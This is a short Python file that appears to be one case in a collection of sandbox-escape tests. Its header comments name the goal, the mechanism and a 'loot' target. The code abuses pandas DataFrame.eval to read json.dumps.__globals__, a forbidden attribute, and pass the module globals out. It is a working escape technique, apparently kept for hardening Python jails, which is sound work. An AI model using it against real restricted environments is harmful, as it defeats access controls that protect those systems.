# aim: read a forbidden attribute in the text of an evaluation
# mechanism: DataFrame.eval follows dots after @ names
# language: builtins
# reason: the library evaluates text unguarded
# jail: process
# plain: loot
# imports: pandas

import json

import pandas

function = json.dumps
kept = []


def keep(thing):
    kept.append(thing)
    return 1


pandas.DataFrame({"a": [1]}).eval("@keep(@function.__globals__)")
loot(kept[0])
